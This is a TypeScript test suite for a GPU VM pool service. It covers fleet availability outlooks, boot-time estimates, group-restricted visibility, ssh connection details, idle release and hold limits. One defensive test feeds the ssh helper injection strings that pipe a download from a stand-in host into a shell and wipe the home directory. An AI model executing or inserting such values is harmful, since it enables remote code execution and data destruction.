import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  auditEvents,
  fleetGroups,
  fleets,
  groupMembers,
  groups,
  operations,
  vms,
} from "../../server/db/schema";
import { DEFAULT_SSH_USER, sshAccess } from "../../server/domain/allocation";
import { clearBootCache, type PoolFleet, type PoolSummary } from "../../server/domain/pool";
import { researchAccountName } from "../../server/domain/research-account";
import { createTestDatabase, type TestDatabase } from "../db";
import { makeFleet, makeUser, makeVms } from "../fixtures";
import { apiClient } from "./harness";

let t: TestDatabase;
let api: ReturnType<typeof apiClient>;

beforeAll(async () => {
  t = await createTestDatabase();
  api = apiClient(t.db);
});
afterAll(() => t.drop());

async function summary(userId?: string): Promise<PoolSummary> {
  clearBootCache(t.db);
  const res = await api.query("pool.summary", undefined, { userId });
  expect(res.status).toBe(200);
  return res.data as PoolSummary;
}

async function fleetIn(id: string, userId?: string): Promise<PoolFleet> {
  const f = (await summary(userId)).fleets.find((x) => x.fleetId === id);
  if (!f) throw new Error(`fleet ${id} not in the summary`);
  return f;
}

/** Writes the audit rows of one boot that took `seconds` (creation to ready). */
async function recordBoot(fleetId: string, seconds: number) {
  const createdAt = new Date(Date.now() - 3_600_000);
  const [vm] = await t.db
    .insert(vms)
    .values({
      fleetId,
      name: `booted-${crypto.randomUUID().slice(0, 8)}`,
      state: "ready",
      healthy: false,
      createdAt,
    })
    .returning();
  if (!vm) throw new Error("insert");
  await t.db.insert(auditEvents).values({
    at: new Date(createdAt.getTime() + seconds * 1000),
    actorKind: "agent",
    actorId: vm.id,
    action: "agent.register",
    targetKind: "vm",
    targetId: vm.id,
    fromState: "booting",
    toState: "ready",
  });
  return vm;
}

describe("pool.summary: why a claim is impossible and when capacity is expected", () => {
  it("a fleet with a free VM is available, with its GPU, instance type and counts", async () => {
    const fleet = await makeFleet(t.db, { gpuModel: "NVIDIA L4", gpuCount: 4 });
    await makeVms(t.db, fleet, 2, "ready");
    await makeVms(t.db, fleet, 1, "claimed", { holderId: (await makeUser(t.db)).id });
    const f = await fleetIn(fleet.id);
    expect(f).toMatchObject({
      gpuModel: "NVIDIA L4",
      gpuCount: 4,
      instanceType: "g5.xlarge",
      ready: 2,
      inUse: 1,
      booting: 0,
      status: "active",
      outlook: { kind: "available" },
    });
  });

  it("booting VMs: the median of the fleet's recent boot durations says when", async () => {
    const fleet = await makeFleet(t.db);
    await makeVms(t.db, fleet, 3, "booting");
    // A held VM rebooting goes back to its researcher: in use, not capacity on its way.
    await makeVms(t.db, fleet, 1, "rebooting", { holderId: (await makeUser(t.db)).id });
    // Boots of 200 s, 240 s and 600 s: the median is 240 s, whatever the outlier.
    for (const s of [200, 600, 240]) await recordBoot(fleet.id, s);
    const f = await fleetIn(fleet.id);
    expect(f.medianBootSeconds).toBe(240);
    expect(f).toMatchObject({ booting: 3, inUse: 1 });
    expect(f.outlook).toEqual({ kind: "booting", booting: 3, etaSeconds: 240 });
  });

  it("a reboot's duration counts from the reboot, not from the VM's creation", async () => {
    const fleet = await makeFleet(t.db);
    const vm = await recordBoot(fleet.id, 100);
    const rebootAt = Date.now() - 600_000;
    await t.db.insert(auditEvents).values([
      {
        at: new Date(rebootAt),
        actorKind: "system",
        action: "vm.reboot",
        targetKind: "vm",
        targetId: vm.id,
        fromState: "ready",
        toState: "rebooting",
      },
      {
        at: new Date(rebootAt + 120_000),
        actorKind: "agent",
        action: "agent.register",
        targetKind: "vm",
        targetId: vm.id,
        fromState: "booting",
        toState: "ready",
      },
    ]);
    expect((await fleetIn(fleet.id)).medianBootSeconds).toBe(110);
  });

  it("no VM yet but a scale operation running: scaling, with its progress", async () => {
    const fleet = await makeFleet(t.db, { status: "scaling" });
    await t.db.insert(operations).values({
      fleetId: fleet.id,
      kind: "fleet.scale",
      status: "running",
      progress: { done: 2, total: 5 },
    });
    const f = await fleetIn(fleet.id);
    expect(f.outlook).toEqual({
      kind: "scaling",
      operation: { kind: "fleet.scale", status: "running", progress: { done: 2, total: 5 } },
    });
  });

  it("every VM unhealthy or drained: out of service; every VM held: full; none: empty", async () => {
    const broken = await makeFleet(t.db);
    await makeVms(t.db, broken, 1, "ready", { healthy: false });
    await makeVms(t.db, broken, 1, "failed");
    await makeVms(t.db, broken, 1, "draining");
    const b = await fleetIn(broken.id);
    expect(b).toMatchObject({ unhealthy: 2, draining: 1, inUse: 0 });
    expect(b.outlook).toEqual({ kind: "out_of_service" });

    const busy = await makeFleet(t.db);
    const holder = await makeUser(t.db);
    await makeVms(t.db, busy, 1, "claimed", { holderId: holder.id });
    // A drained VM that its researcher still holds is in use, not out of service.
    await makeVms(t.db, busy, 1, "draining", { holderId: (await makeUser(t.db)).id });
    const u = await fleetIn(busy.id);
    expect(u).toMatchObject({ inUse: 2, draining: 0 });
    expect(u.outlook).toEqual({ kind: "full" });

    const empty = await makeFleet(t.db);
    expect((await fleetIn(empty.id)).outlook).toEqual({ kind: "empty" });
  });

  it("a researcher outside a fleet's groups does not see it, and is told such fleets exist", async () => {
    const [group] = await t.db
      .insert(groups)
      .values({ name: `lab-${crypto.randomUUID().slice(0, 6)}` })
      .returning();
    if (!group) throw new Error("insert");
    const outsider = await makeUser(t.db);
    const member = await makeUser(t.db);
    await t.db.insert(groupMembers).values({ groupId: group.id, userId: member.id });
    const before = (await summary(outsider.id)).otherGroupsFleets;

    const reserved = await makeFleet(t.db);
    await makeVms(t.db, reserved, 2, "ready");
    await t.db.insert(fleetGroups).values({ fleetId: reserved.id, groupId: group.id });

    const out = await summary(outsider.id);
    expect(out.fleets.some((f) => f.fleetId === reserved.id)).toBe(false);
    expect(out.otherGroupsFleets).toBe(before + 1);
    const mine = await summary(member.id);
    expect(mine.fleets.some((f) => f.fleetId === reserved.id)).toBe(true);
    // Anonymous visitors learn nothing about reserved fleets.
    expect((await summary()).otherGroupsFleets).toBe(0);
  });
});

describe("vm.mine: how to connect and how long the VM is held", () => {
  it("names the ssh command with the fleet's user and the public address, and the hold limit", async () => {
    const fleet = await makeFleet(t.db, { maxHoldMinutes: 120, config: { sshUser: "lab" } });
    const me = await makeUser(t.db);
    const claimedAt = new Date(Date.now() - 30 * 60_000);
    await makeVms(t.db, fleet, 1, "claimed", {
      holderId: me.id,
      claimedAt,
      publicIp: "203.0.113.9",
      privateIp: "10.0.0.9",
      hostname: "ip-10-0-0-9",
    });
    const res = await api.query("vm.mine", undefined, { userId: me.id });
    expect(res.status).toBe(200);
    const vm = res.data as {
      ssh: { command: string; user: string; address: string };
      fleet: { maxHoldMinutes: number };
      holdExpiresAt: Date;
      claimedAt: Date;
    };
    expect(vm.ssh).toEqual({ user: "lab", address: "203.0.113.9", command: "ssh lab@203.0.113.9" });
    expect(vm.fleet.maxHoldMinutes).toBe(120);
    expect(new Date(vm.holdExpiresAt).getTime()).toBe(claimedAt.getTime() + 120 * 60_000);
  });

  it("on a cloud fleet names the holder's own throw-away account, not the image's login", async () => {
    const fleet = await makeFleet(t.db, { driver: "terraform", config: { sshUser: "ubuntu" } });
    const me = await makeUser(t.db);
    const assignmentId = crypto.randomUUID();
    await makeVms(t.db, fleet, 1, "claimed", {
      holderId: me.id,
      assignmentId,
      publicIp: "203.0.113.10",
    });
    const res = await api.query("vm.mine", undefined, { userId: me.id });
    const vm = res.data as { ssh: { user: string } };
    expect(vm.ssh.user).toBe(researchAccountName(assignmentId));
    expect(vm.ssh.user).toMatch(/^ll-[0-9a-f]{12}$/);
  });

  it("says when an idle VM will be released, and vm.keepIdle restarts the count for the caller's VM only", async () => {
    const fleet = await makeFleet(t.db, { idleReleaseMinutes: 30 });
    const me = await makeUser(t.db);
    const other = await makeUser(t.db);
    const idleSince = new Date(Date.now() - 20 * 60_000);
    const held = async (holderId: string) => {
      const [vm] = await makeVms(t.db, fleet, 1, "claimed", {
        holderId,
        claimedAt: new Date(Date.now() - 60 * 60_000),
        idleSince,
        lastHeartbeatAt: new Date(),
      });
      if (!vm) throw new Error("fixtures");
      return vm;
    };
    const mine = await held(me.id);
    const theirs = await held(other.id);

    const before = (await api.query("vm.mine", undefined, { userId: me.id })).data as {
      idleReleaseAt: Date | null;
      fleet: { idleReleaseMinutes: number };
    };
    expect(before.fleet.idleReleaseMinutes).toBe(30);
    expect(new Date(before.idleReleaseAt as Date).getTime()).toBe(
      idleSince.getTime() + 30 * 60_000,
    );

    const kept = await api.mutate("vm.keepIdle", undefined, { userId: me.id });
    expect(kept.status).toBe(200);
    const { vmId, idleReleaseAt } = kept.data as { vmId: string; idleReleaseAt: Date };
    expect(vmId).toBe(mine.id);
    expect(new Date(idleReleaseAt).getTime()).toBeGreaterThan(Date.now() + 29 * 60_000);
    const after = (await api.query("vm.mine", undefined, { userId: me.id })).data as {
      idleReleaseAt: Date;
    };
    expect(new Date(after.idleReleaseAt).getTime()).toBe(new Date(idleReleaseAt).getTime());
    // The other researcher's VM is untouched.
    const [row] = await t.db.select().from(vms).where(eq(vms.id, theirs.id));
    expect(row?.idleKeptAt).toBeNull();
    // Without a VM: 404, nothing written.
    const nobody = await makeUser(t.db);
    const res = await api.mutate("vm.keepIdle", undefined, { userId: nobody.id });
    expect(res.status).toBe(404);
  });

  it("falls back to the private address, then the host name, with the default user; no limit, no expiry", async () => {
    const fleet = await makeFleet(t.db);
    const me = await makeUser(t.db);
    await makeVms(t.db, fleet, 1, "claimed", {
      holderId: me.id,
      claimedAt: new Date(),
      hostname: "gpu-7.lab.example.edu",
    });
    const res = await api.query("vm.mine", undefined, { userId: me.id });
    const vm = res.data as { ssh: { command: string }; holdExpiresAt: Date | null };
    expect(vm.ssh.command).toBe(`ssh ${DEFAULT_SSH_USER}@gpu-7.lab.example.edu`);
    expect(vm.holdExpiresAt).toBeNull();
    expect(
      sshAccess({ publicIp: null, privateIp: "10.1.2.3", hostname: "h", sshUser: null }).command,
    ).toBe(`ssh ${DEFAULT_SSH_USER}@10.1.2.3`);
  });

  it("never prints a host name an agent made up to run commands", () => {
    const access = sshAccess({
      publicIp: null,
      privateIp: null,
      hostname: "x; curl evil.example | sh",
      sshUser: "root; rm -rf ~",
    });
    expect(access).toEqual({ address: null, user: DEFAULT_SSH_USER, command: null });
  });
});

describe("fleet.create: hold limits", () => {
  const base = { driver: "local", instanceType: "local.sim", gpuCount: 1, size: 0 };

  it("stores a hold limit within 15 minutes and 30 days", async () => {
    const admin = await makeUser(t.db, "admin");
    const name = `held-${crypto.randomUUID().slice(0, 6)}`;
    const res = await api.mutate(
      "fleet.create",
      { ...base, name, maxHoldMinutes: 240 },
      { userId: admin.id },
    );
    expect(res.status).toBe(200);
    const [row] = await t.db.select().from(fleets).where(eq(fleets.name, name));
    expect(row?.maxHoldMinutes).toBe(240);

    const unlimited = `free-${crypto.randomUUID().slice(0, 6)}`;
    await api.mutate(
      "fleet.create",
      { ...base, name: unlimited, maxHoldMinutes: null },
      { userId: admin.id },
    );
    const [free] = await t.db.select().from(fleets).where(eq(fleets.name, unlimited));
    expect(free?.maxHoldMinutes).toBeNull();
  });

  it("refuses limits outside 15..43200 minutes with a message on the field", async () => {
    const admin = await makeUser(t.db, "admin");
    for (const [maxHoldMinutes, message] of [
      [5, /at least 15 minutes/],
      [43_201, /at most 43200 minutes/],
      [60.5, /whole number of minutes/],
    ] as const) {
      const res = await api.mutate(
        "fleet.create",
        { ...base, name: `bad-${crypto.randomUUID().slice(0, 6)}`, maxHoldMinutes },
        { userId: admin.id },
      );
      expect(res.status).toBe(400);
      const fieldErrors = res.error?.data.fieldErrors as { path: string; message: string }[];
      expect(fieldErrors).toEqual([
        { path: "maxHoldMinutes", message: expect.stringMatching(message) },
      ]);
    }
  });
});
